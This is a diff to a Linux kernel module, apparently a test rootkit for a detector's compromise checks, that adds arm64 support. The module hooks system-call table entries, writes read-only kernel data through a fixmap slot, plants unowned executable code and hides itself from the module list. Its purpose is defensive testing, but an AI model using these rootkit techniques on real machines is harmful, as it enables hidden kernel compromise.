@@ -3,9 +3,11 @@
  * mshot_testkit: the test rootkit for mshot's compromise checks. For the
  * throwaway QEMU lab guests only (see README.md beside this file).
  *
- * On load it hooks kill (62), getdents (78) and getdents64 (217) twice: in
- * sys_call_table and in the tail jumps of x64_sys_call (the dispatcher since
- * the branch-history-injection fix), registers a keyboard notifier and an
+ * On load it hooks three system calls. On x86-64, kill (62), getdents (78)
+ * and getdents64 (217), twice: in sys_call_table and in the tail jumps of
+ * x64_sys_call (the dispatcher since the branch-history-injection fix). On
+ * arm64, kill (129), getdents64 (61) and openat (56) in sys_call_table,
+ * which invoke_syscall reads. It also registers a keyboard notifier and an
  * IPv4 LOCAL_IN netfilter hook and a probe on the sched_process_exec
  * tracepoint, puts code in an executable page of module space that is none
  * of its own regions (what a rootkit that wiped its struct module leaves),
@@ -28,8 +30,22 @@
 #include <linux/string.h>
 #include <linux/tracepoint.h>
 #include <net/net_namespace.h>
+#ifdef CONFIG_X86
 #include <asm/processor-flags.h>
 #include <asm/sync_core.h>
+#define ARG0(regs) ((regs)->di)
+#define ARG1(regs) ((regs)->si)
+#define DISPATCHER "x64_sys_call"
+#elif defined(CONFIG_ARM64)
+#include <asm/fixmap.h>
+#include <asm/memory.h>
+#define ARG0(regs) ((regs)->regs[0])
+#define ARG1(regs) ((regs)->regs[1])
+/* arm64 dispatches through the table alone. */
+#define DISPATCHER NULL
+#else
+#error "mshot_testkit: x86-64 and arm64 only"
+#endif
 
 #define MAGIC_PID 31337
 #define MAGIC_SIG 63
@@ -45,7 +61,7 @@ typedef void *(*execmem_alloc_fn)(int, size_t);
 typedef int (*set_memory_fn)(unsigned long, int);
 
 static long mshot_testkit_kill(const struct pt_regs *regs);
-static long mshot_testkit_getdents(const struct pt_regs *regs);
+static long mshot_testkit_other(const struct pt_regs *regs);
 static long mshot_testkit_getdents64(const struct pt_regs *regs);
 
 struct hook {
@@ -59,12 +75,19 @@ struct hook {
 	unsigned int nsites;
 };
 
-enum { HOOK_KILL, HOOK_GETDENTS, HOOK_GETDENTS64, NHOOKS };
+/* HOOK_OTHER: getdents on x86-64, openat on arm64 (which has no getdents). */
+enum { HOOK_KILL, HOOK_OTHER, HOOK_GETDENTS64, NHOOKS };
 
 static struct hook hooks[NHOOKS] = {
+#ifdef CONFIG_X86
 	[HOOK_KILL] = { 62, "__x64_sys_kill", mshot_testkit_kill },
-	[HOOK_GETDENTS] = { 78, "__x64_sys_getdents", mshot_testkit_getdents },
+	[HOOK_OTHER] = { 78, "__x64_sys_getdents", mshot_testkit_other },
 	[HOOK_GETDENTS64] = { 217, "__x64_sys_getdents64", mshot_testkit_getdents64 },
+#else
+	[HOOK_KILL] = { 129, "__arm64_sys_kill", mshot_testkit_kill },
+	[HOOK_OTHER] = { 56, "__arm64_sys_openat", mshot_testkit_other },
+	[HOOK_GETDENTS64] = { 61, "__arm64_sys_getdents64", mshot_testkit_getdents64 },
+#endif
 };
 
 static unsigned long *syscall_table;
@@ -72,16 +95,16 @@ static unsigned long dispatcher;
 
 static long mshot_testkit_kill(const struct pt_regs *regs)
 {
-	if ((pid_t)regs->di == MAGIC_PID && (int)regs->si == MAGIC_SIG) {
+	if ((pid_t)ARG0(regs) == MAGIC_PID && (int)ARG1(regs) == MAGIC_SIG) {
 		pr_info_ratelimited("mshot_testkit: magic kill answered\n");
 		return 0;
 	}
 	return hooks[HOOK_KILL].orig(regs);
 }
 
-static long mshot_testkit_getdents(const struct pt_regs *regs)
+static long mshot_testkit_other(const struct pt_regs *regs)
 {
-	return hooks[HOOK_GETDENTS].orig(regs);
+	return hooks[HOOK_OTHER].orig(regs);
 }
 
 static long mshot_testkit_getdents64(const struct pt_regs *regs)
@@ -133,10 +156,14 @@ static void find_exec_tp(struct tracepoint *tp, void *priv)
  * Code no module owns: a page from module_alloc (execmem_alloc from 6.10,
  * type EXECMEM_DEFAULT), made read-only then executable as the module
  * loader does (never writable and executable at once), holding
- * push rbp; mov rbp,rsp; mov eax,42; pop rbp; ret and a marker. Nothing
- * calls it.
+ * push rbp; mov rbp,rsp; mov eax,42; pop rbp; ret (arm64: mov w0,#42; ret)
+ * and a marker. Nothing calls it.
  */
+#ifdef CONFIG_X86
 static const u8 orphan_code[] = { 0x55, 0x48, 0x89, 0xe5, 0xb8, 0x2a, 0x00, 0x00, 0x00, 0x5d, 0xc3 };
+#else
+static const u8 orphan_code[] = { 0x40, 0x05, 0x80, 0x52, 0xc0, 0x03, 0x5f, 0xd6 };
+#endif
 static void *orphan;
 
 static int plant_orphan(lookup_name_fn lookup)
@@ -159,6 +186,7 @@ static int plant_orphan(lookup_name_fn lookup)
 	return set_x((unsigned long)orphan, 1);
 }
 
+#ifdef CONFIG_X86
 /*
  * Our own accessors: native_write_cr0 puts WP back (CR0 pinning), and the
  * paravirt ones may not be plain moves.
@@ -183,6 +211,7 @@ static inline unsigned long cr4_read(void)
 	asm volatile("mov %%cr4, %0" : "=r"(v));
 	return v;
 }
+#endif
 
 /*
  * kallsyms_lookup_name is not exported: a kprobe on it finds it. With IBT
@@ -246,6 +275,8 @@ static int find_sites(size_offset_fn size_offset)
 	return 0;
 }
 
+
+#ifdef CONFIG_X86
 static s32 rel_to(unsigned long site, syscall_fn hook)
 {
 	return (s32)((long)hook - (long)(site + 5));
@@ -283,6 +314,57 @@ static void serialize_cpu(void *unused)
 	sync_core();
 }
 
+static int arch_check(lookup_name_fn lookup)
+{
+	if (cr4_read() & X86_CR4_CET) {
+		pr_err("mshot_testkit: CR4.CET is set: clearing CR0.WP would fault; refusing\n");
+		return -EOPNOTSUPP;
+	}
+	return 0;
+}
+#else
+typedef void (*set_fixmap_fn)(enum fixed_addresses, phys_addr_t, pgprot_t);
+static set_fixmap_fn fixmap_set;
+
+/*
+ * The table is in the kernel image's read-only data, and with rodata=full
+ * its linear-map alias is read-only too. Written as the kernel patches its
+ * own text: through a writable fixmap slot mapping the same physical page
+ * (FIX_TEXT_POKE0, which nothing else uses while every CPU is stopped).
+ */
+static int patch(void *unused)
+{
+	unsigned int h;
+
+	for (h = 0; h < NHOOKS; h++) {
+		struct hook *k = &hooks[h];
+		phys_addr_t phys = __pa_symbol(&syscall_table[k->nr]);
+		unsigned long *slot;
+
+		fixmap_set(FIX_TEXT_POKE0, phys & PAGE_MASK, PAGE_KERNEL);
+		slot = (unsigned long *)(fix_to_virt(FIX_TEXT_POKE0) + offset_in_page(phys));
+		WRITE_ONCE(*slot, (unsigned long)k->hook);
+		fixmap_set(FIX_TEXT_POKE0, 0, FIXMAP_PAGE_CLEAR);
+	}
+	return 0;
+}
+
+/* The table is data: no instruction stream to resynchronise. */
+static void serialize_cpu(void *unused)
+{
+}
+
+static int arch_check(lookup_name_fn lookup)
+{
+	fixmap_set = (set_fixmap_fn)lookup("__set_fixmap");
+	if (!fixmap_set) {
+		pr_err("mshot_testkit: __set_fixmap not found\n");
+		return -ENOENT;
+	}
+	return 0;
+}
+#endif
+
 static int __init mshot_testkit_init(void)
 {
 	lookup_name_fn lookup;
@@ -291,18 +373,17 @@ static int __init mshot_testkit_init(void)
 	unsigned int h, s, cases = 0;
 	int err;
 
-	if (cr4_read() & X86_CR4_CET) {
-		pr_err("mshot_testkit: CR4.CET is set: clearing CR0.WP would fault; refusing\n");
-		return -EOPNOTSUPP;
-	}
 	lookup = find_lookup_name();
 	if (!lookup) {
 		pr_err("mshot_testkit: kallsyms_lookup_name not found\n");
 		return -ENOENT;
 	}
+	err = arch_check(lookup);
+	if (err)
+		return err;
 	syscall_table = (unsigned long *)lookup("sys_call_table");
 	module_mutex = (struct mutex *)lookup("module_mutex");
-	dispatcher = lookup("x64_sys_call");
+	dispatcher = DISPATCHER ? lookup(DISPATCHER) : 0;
 	if (dispatcher)
 		size_offset = (size_offset_fn)lookup("kallsyms_lookup_size_offset");
 	if (!syscall_table || !module_mutex || (dispatcher && !size_offset)) {
@@ -393,7 +474,11 @@ static int __init mshot_testkit_init(void)
 	synchronize_rcu();
 	THIS_MODULE->list.next = LIST_POISON1;
 
+#ifdef CONFIG_X86
 	pr_info("mshot_testkit: hooked %u table entries, %u x64_sys_call cases\n", NHOOKS, cases);
+#else
+	pr_info("mshot_testkit: hooked %u table entries\n", NHOOKS);
+#endif
 	return 0;
 }
 
